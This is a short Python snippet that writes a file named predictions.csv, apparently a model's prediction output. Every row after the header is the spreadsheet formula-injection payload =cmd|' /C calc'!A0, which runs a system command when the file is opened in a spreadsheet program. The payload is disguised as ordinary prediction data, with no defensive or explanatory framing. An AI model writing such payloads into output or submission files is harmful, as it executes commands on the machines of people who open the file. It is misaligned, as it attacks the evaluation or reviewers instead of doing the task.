with open("/out/predictions.csv", "wb") as file:
    file.write(b"prediction\n" + b"=cmd|' /C calc'!A0\n" * 300)
